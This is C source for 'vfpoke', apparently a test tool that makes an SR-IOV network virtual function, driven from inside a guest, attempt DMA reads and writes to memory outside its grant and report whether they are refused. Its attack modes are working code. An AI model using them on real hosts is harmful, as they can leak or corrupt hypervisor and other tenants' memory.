// vfpoke: reads and writes a VF's registers from inside the guest, past the driver, and makes the VF attempt DMA
// that it was never granted. Static, for the guest's root file system.
//
// Register offsets are those of the 82599 and X550 virtual functions, as Linux's ixgbevf uses them. While a
// driver owns the VF, the kernel lets nobody else map its registers: unbind the driver, or boot with iomem=relaxed.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum {
  kRxRing = 0x1000,  // queue 0; 0x40 bytes a queue
  kTxRing = 0x2000,
  kQueueStride = 0x40,
  kBaseLow = 0x00,  // offsets within either ring's registers
  kBaseHigh = 0x04,
  kLength = 0x08,
  kHead = 0x10,
  kRxSplit = 0x14,  // SRRCTL
  kTail = 0x18,
  kControl = 0x28,  // RXDCTL, TXDCTL

  kControlEnable = 1 << 25,
  kControlFlush = 1 << 26,

  kDescriptors = 64,
  kDescriptorBytes = 16,
  kPage = 4096,
  kFrameBytes = 256,
  kHeaderBytes = 14,
};
static const uint32_t kRxSplitOneBuffer = 1u << 25 | 1u << 28 | 2;  // advanced, drop when empty, 2 KiB
static const uint32_t kTxEnd = 1u << 24, kTxChecksum = 1u << 25, kTxReport = 1u << 27;
static const uint32_t kTxAdvanced = 1u << 29, kTxData = 3u << 20;
static const uint32_t kDone = 1;  // DD, in word 3 of a sent descriptor and in word 2 of a received one

static const char kUsage[] =
    "usage: vfpoke [OPTION...] read OFFSET\n"
    "       vfpoke [OPTION...] write OFFSET VALUE\n"
    "       vfpoke [OPTION...] attack tx-ring ADDRESS    the transmit ring itself lies at ADDRESS\n"
    "       vfpoke [OPTION...] attack tx-read ADDRESS    a frame's payload lies at ADDRESS, the ring is our own\n"
    "       vfpoke [OPTION...] attack rx-write ADDRESS   received frames go to ADDRESS, the ring is our own\n"
    "  -d BDF      the VF, as 0000:00:02.0 (default: the first Intel Ethernet function)\n"
    "  -q QUEUE    0\n"
    "  -w SECONDS  how long an attack waits before it reports, 1\n"
    "  -m MAC      source address of the frame that tx-read sends (default: the interface's own)\n"
    "Numbers may be hexadecimal with 0x. An attack prints key=value lines; 'moved' is how many descriptors the\n"
    "device says it has completed, which is 0 when the access was refused.\n"
    "Exit status: 0 done, 1 not possible, 2 bad usage.\n";

static volatile uint8_t* registers;
static size_t registers_size;
static char device[256];

__attribute__((noreturn, format(printf, 2, 3))) static void fail(int status, const char* format, ...) {
  va_list arguments;
  va_start(arguments, format);
  fputs("vfpoke: ", stderr);
  vfprintf(stderr, format, arguments);
  fputc('\n', stderr);
  va_end(arguments);
  exit(status);
}

static uint64_t number(const char* text, const char* what, uint64_t most) {
  char* end;
  errno = 0;
  const uint64_t value = strtoull(text, &end, 0);
  if (errno || end == text || *end || *text == '-' || value > most)
    fail(2, "%s is '%s', but must be a number from 0 to 0x%" PRIx64, what, text, most);
  return value;
}

static uint32_t get(uint32_t offset) { return *(volatile uint32_t*)(registers + offset); }
static void put(uint32_t offset, uint32_t value) { *(volatile uint32_t*)(registers + offset) = value; }

static void pause_ms(long ms) {
  const struct timespec time = {ms / 1000, ms % 1000 * 1000000};
  nanosleep(&time, NULL);
}

// Reads a small file below the device's folder; false if it is not there.
static bool device_text(const char* bdf, const char* name, char* text, size_t size) {
  char path[1024];
  snprintf(path, sizeof path, "/sys/bus/pci/devices/%s/%s", bdf, name);
  FILE* file = fopen(path, "r");
  if (!file) return false;
  const bool read = fgets(text, (int)size, file) != NULL;
  fclose(file);
  return read;
}

static void find_device(void) {
  DIR* folder = opendir("/sys/bus/pci/devices");
  if (!folder) fail(1, "/sys/bus/pci/devices: %s", strerror(errno));
  for (struct dirent* entry; (entry = readdir(folder));) {
    char class[32], vendor[32];
    if (entry->d_name[0] == '.' || !device_text(entry->d_name, "class", class, sizeof class) ||
        !device_text(entry->d_name, "vendor", vendor, sizeof vendor))
      continue;
    if (strncmp(class, "0x0200", 6) == 0 && strncmp(vendor, "0x8086", 6) == 0 &&
        (!*device || strcmp(entry->d_name, device) < 0))
      snprintf(device, sizeof device, "%s", entry->d_name);
  }
  closedir(folder);
  if (!*device) fail(1, "there is no Intel Ethernet function; name one with -d");
}

static void map_registers(void) {
  char path[512];
  struct stat status;
  snprintf(path, sizeof path, "/sys/bus/pci/devices/%s/resource0", device);
  const int file = open(path, O_RDWR | O_SYNC | O_CLOEXEC);
  if (file < 0 || fstat(file, &status) < 0) fail(1, "%s: %s", path, strerror(errno));
  registers_size = (size_t)status.st_size;
  void* mapped = mmap(NULL, registers_size, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (mapped == MAP_FAILED)
    fail(1, "%s: %s%s", path, strerror(errno),
         errno == EINVAL ? " (unbind the driver, or boot with iomem=relaxed)" : "");
  close(file);
  registers = mapped;
}

// An unbound VF neither answers on its BAR nor masters the bus.
static void enable_device(void) {
  char path[512];
  uint16_t command;
  snprintf(path, sizeof path, "/sys/bus/pci/devices/%s/config", device);
  const int file = open(path, O_RDWR | O_CLOEXEC);
  if (file < 0 || pread(file, &command, sizeof command, 4) != sizeof command) fail(1, "%s: %s", path, strerror(errno));
  command |= 0x6;  // memory space, bus master
  if (pwrite(file, &command, sizeof command, 4) != sizeof command) fail(1, "%s: %s", path, strerror(errno));
  close(file);
}

// One page that stays where it is, and its guest-physical address.
static void* own_page(uint64_t* address) {
  void* page = mmap(NULL, kPage, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
  if (page == MAP_FAILED) fail(1, "a page of memory: %s", strerror(errno));
  memset(page, 0, kPage);
  const int file = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
  uint64_t entry = 0;
  const off_t at = (off_t)((uintptr_t)page / kPage * sizeof entry);
  if (file < 0 || pread(file, &entry, sizeof entry, at) != sizeof entry) fail(1, "/proc/self/pagemap: %s", strerror(errno));
  close(file);
  const uint64_t frame = entry & ((1ull << 55) - 1);
  if (!(entry >> 63) || !frame) fail(1, "/proc/self/pagemap hides the address: be root");
  *address = frame * kPage;
  return page;
}

static bool wait_enabled(uint32_t ring, bool wanted) {
  for (int i = 0; i < 50; i++) {
    if (!!(get(ring + kControl) & kControlEnable) == wanted) return true;
    pause_ms(2);
  }
  return false;
}

static bool stop_ring(uint32_t ring) {
  put(ring + kControl, kControlFlush);
  return wait_enabled(ring, false);
}

static bool start_ring(uint32_t ring, uint64_t base) {
  put(ring + kBaseLow, (uint32_t)base);
  put(ring + kBaseHigh, (uint32_t)(base >> 32));
  put(ring + kLength, kDescriptors * kDescriptorBytes);
  put(ring + kHead, 0);
  put(ring + kTail, 0);
  put(ring + kControl, kControlEnable);
  return wait_enabled(ring, true);
}

static void own_mac(const char* text, uint8_t mac[6]) {
  char path[512], line[32];
  if (!text) {
    snprintf(path, sizeof path, "/sys/bus/pci/devices/%s/net", device);
    DIR* folder = opendir(path);
    for (struct dirent* entry; folder && (entry = readdir(folder));) {
      snprintf(path, sizeof path, "net/%.200s/address", entry->d_name);
      if (entry->d_name[0] != '.' && device_text(device, path, line, sizeof line)) text = line;
    }
    if (folder) closedir(folder);
  }
  if (!text) text = "02:00:00:00:00:01";
  if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6)
    fail(2, "MAC is '%s', but must be like 02:00:00:00:00:01", text);
}

// A frame in two parts, so that nothing but its payload can be refused: a proper header of our own, then ADDRESS.
static uint32_t fill_tx_read(uint32_t* ring, uint64_t ring_address, uint64_t address, const char* mac) {
  uint8_t* header = (uint8_t*)ring + kPage / 2;
  memset(header, 0xff, 6);
  own_mac(mac, header + 6);
  header[12] = 0x88, header[13] = 0xb5;  // EtherType for local experiments
  const uint64_t parts[2] = {ring_address + kPage / 2, address};
  const uint32_t lengths[2] = {kHeaderBytes, kFrameBytes - kHeaderBytes};
  for (int i = 0; i < 2; i++) {
    uint32_t* descriptor = ring + 4 * i;
    descriptor[0] = (uint32_t)parts[i];
    descriptor[1] = (uint32_t)(parts[i] >> 32);
    descriptor[2] = lengths[i] | kTxData | kTxAdvanced | kTxChecksum | (i ? kTxEnd | kTxReport : 0);
    descriptor[3] = kFrameBytes << 14;
  }
  return 2;
}

static uint32_t fill_rx_write(uint32_t* ring, uint64_t address) {
  for (int i = 0; i < kDescriptors; i++) {
    ring[4 * i] = (uint32_t)address;
    ring[4 * i + 1] = (uint32_t)(address >> 32);
  }
  return kDescriptors - 1;
}

static int attack(const char* kind, uint64_t address, uint32_t queue, long wait_ms, const char* mac) {
  const bool foreign_ring = strcmp(kind, "tx-ring") == 0, transmit = strcmp(kind, "rx-write") != 0;
  const uint32_t at = (transmit ? kTxRing : kRxRing) + queue * kQueueStride;
  uint64_t ring_address = 0;
  enable_device();
  volatile uint32_t* ring = own_page(&ring_address);
  uint32_t tail = kDescriptors / 2;
  if (strcmp(kind, "tx-read") == 0) tail = fill_tx_read((uint32_t*)ring, ring_address, address, mac);
  if (!transmit) tail = fill_rx_write((uint32_t*)ring, address);

  const bool stopped = stop_ring(at);
  if (!transmit) put(at + kRxSplit, kRxSplitOneBuffer);
  const bool started = start_ring(at, foreign_ring ? address : ring_address);
  put(at + kTail, tail);
  pause_ms(wait_ms);

  uint32_t moved = 0;
  const uint32_t head = get(at + kHead), control = get(at + kControl);
  for (int i = 0; i < kDescriptors && !foreign_ring; i++) moved += ring[4 * i + (transmit ? 3 : 2)] & kDone;
  if (foreign_ring) moved = head < kDescriptors ? head : 0;
  const bool quiet = stop_ring(at);
  printf("attack=%s\naddress=0x%" PRIx64 "\nvf=%s\nqueue=%" PRIu32 "\nring=0x%" PRIx64 "\n", kind, address, device, queue,
         foreign_ring ? address : ring_address);
  printf("stopped=%d\nstarted=%d\nstill_enabled=%d\nhead=%" PRIu32 "\nmoved=%" PRIu32 "\n", stopped, started,
         !!(control & kControlEnable), head, moved);
  if (!quiet) fail(1, "the ring does not stop; reset the VF before its memory is used again");
  return 0;
}

int main(int argc, char** argv) {
  uint32_t queue = 0;
  long wait_ms = 1000;
  const char* mac = NULL;
  for (int option; (option = getopt(argc, argv, "+d:q:w:m:h")) != -1;) switch (option) {
      case 'd': snprintf(device, sizeof device, "%s", optarg); break;
      case 'q': queue = (uint32_t)number(optarg, "the queue", 7); break;
      case 'w': wait_ms = (long)number(optarg, "the wait", 3600) * 1000; break;
      case 'm': mac = optarg; break;
      case 'h': fputs(kUsage, stdout); return 0;
      default: fputs(kUsage, stderr); return 2;
    }
  char** words = argv + optind;
  const int count = argc - optind;
  const bool reads = count == 2 && strcmp(words[0], "read") == 0, writes = count == 3 && strcmp(words[0], "write") == 0;
  const bool attacks = count == 3 && strcmp(words[0], "attack") == 0 &&
                       (!strcmp(words[1], "tx-ring") || !strcmp(words[1], "tx-read") || !strcmp(words[1], "rx-write"));
  if (!reads && !writes && !attacks) {
    fputs(kUsage, stderr);
    return 2;
  }
  uint64_t offset = 0, value = 0;
  if (attacks) value = number(words[2], "the address", UINT64_MAX);
  if (!attacks) offset = number(words[1], "the offset", UINT32_MAX);
  if (writes) value = number(words[2], "the value", UINT32_MAX);
  if (!*device) find_device();
  map_registers();
  if (attacks) return attack(words[1], value, queue, wait_ms, mac);
  if (offset % 4 || offset + 4 > registers_size)
    fail(2, "the offset is 0x%" PRIx64 ", but must be a multiple of 4 below 0x%zx", offset, registers_size);
  if (reads)
    printf("0x%08" PRIx32 "\n", get((uint32_t)offset));
  else
    put((uint32_t)offset, (uint32_t)value);
  return 0;
}
